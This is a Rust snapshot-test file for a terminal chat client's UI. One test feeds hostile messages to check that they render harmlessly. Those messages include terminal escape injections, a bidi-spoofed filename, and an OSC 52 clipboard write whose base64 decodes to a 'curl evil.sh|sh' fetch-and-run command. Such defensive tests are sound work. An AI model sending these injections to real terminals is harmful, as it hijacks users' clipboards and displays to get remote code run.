//! Whole-screen snapshots at 80×24 with ratatui's TestBackend and insta:
//! the login screen, a chat with messages, notices and typing, the
//! reconnecting state, and hostile text rendered harmless.

use super::render;
use crate::app::tests_support::*;
use crate::app::{App, LoginForm, Mode, Msg};
use crate::events::{ConnState, NetEvent};
use heartlink_protocol::{ServerMsg, User, UserId};
use ratatui::Terminal;
use ratatui::backend::TestBackend;
use tokio::time::Duration;

fn screen(app: &App) -> String {
    screen_at(app, 80, 24)
}

/// The screen at `width`×`height` as text (OSC 8 link sequences removed;
/// `links_in` checks those).
fn screen_at(app: &App, width: u16, height: u16) -> String {
    let mut terminal = Terminal::new(TestBackend::new(width, height)).unwrap();
    terminal.draw(|frame| {
        render(app, frame);
    })
    .unwrap();
    strip_osc8(&terminal.backend().to_string())
}

fn strip_osc8(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(start) = rest.find("\x1b]8;;") {
        out.push_str(&rest[..start]);
        let after = &rest[start..];
        let end = after.find("\x1b\\").map_or(after.len(), |end| end + 2);
        rest = &after[end..];
    }
    out.push_str(rest);
    out
}

fn chat_with_history() -> App {
    let (mut app, room) = chat_app();
    let messages = vec![
        message(room, 1, &bob(), "hey alice! are you around?", "b1"),
        message(room, 2, &alice(), "yes :) just got in", "a2"),
        message(room, 3, &bob(), "great — ❤️ 日本語 works too\nand a second line", "b3"),
    ];
    server(&mut app, joined(room, messages));
    server(&mut app, ServerMsg::ReadReceipt { room_id: room, user: bob(), seq: 2 });
    let carol = User { id: UserId(uuid::Uuid::from_u128(0xca401)), username: "carol".into() };
    server(&mut app, ServerMsg::UserJoined { room_id: room, user: carol.clone() });
    server(&mut app, ServerMsg::Presence { user: carol, online: false, status: None, last_seen: None, room_id: None });
    server(&mut app, ServerMsg::Typing { room_id: room, user: bob(), active: true });
    type_text(&mut app, "see you :wave:");
    app
}

#[test]
fn login_screen() {
    let form = LoginForm::new(Mode::Login, "ws://127.0.0.1:7878/ws".into(), Some("alice".into()), Some("wrong username or password".into()));
    let (mut app, _) = App::login(form, &[], Vec::new(), t0());
    type_text(&mut app, "hunter22");
    let shown = screen(&app);
    assert!(shown.contains("Password") && !shown.contains("hunter22"), "{shown}");
    insta::assert_snapshot!(shown);
}

#[test]
fn chat_with_messages_notices_and_typing() {
    let shown = screen(&chat_with_history());
    assert!(shown.contains("bob is typing…") && shown.contains("carol joined") && shown.contains(" connected "), "{shown}");
    insta::assert_snapshot!(shown);
}

#[test]
fn reconnecting_with_countdown_and_a_pending_message() {
    let mut app = chat_with_history();
    app.update(Msg::Net(NetEvent::State(ConnState::Reconnecting { attempt: 2, retry_at: Some(t0() + Duration::from_secs(4)) })));
    app.update(crate::app::tests_support::key(crossterm::event::KeyCode::Enter));
    app.update(Msg::Tick { now: t0() + Duration::from_millis(600) });
    let shown = screen(&app);
    assert!(shown.contains("reconnecting in 4s") && shown.contains("(sending…)"), "{shown}");
    insta::assert_snapshot!(shown);
}

#[test]
fn hostile_text_is_shown_harmlessly() {
    let (mut app, room) = chat_app();
    let mallory = User { id: UserId(uuid::Uuid::from_u128(0x6a11)), username: "mal\u{1b}[31mlory\u{202e}".into() };
    let bodies = [
        "\u{1b}]0;pwned title\u{7}\u{1b}[2J\u{1b}[H cleared?",
        "\u{1b}]52;c;Y3VybCBldmlsLnNofHNo\u{7} clipboard?",
        "\u{202e}gnp.exe\u{202c} \u{2066}bidi\u{2069} \u{9b}31m C1 \r\u{7f}",
    ];
    for (seq, body) in (1..).zip(bodies) {
        server(&mut app, ServerMsg::ChatMessage(message(room, seq, &mallory, body, "m")));
    }
    let shown = screen(&app);
    assert!(!shown.chars().any(|c| c == '\u{1b}' || c == '\u{7}' || c == '\u{9b}' || c == '\u{202e}' || c == '\u{7f}'), "{shown:?}");
    assert!(shown.contains("␛]0;pwned") && shown.contains("⟨U+202E⟩"), "{shown}");
    insta::assert_snapshot!(shown);
}
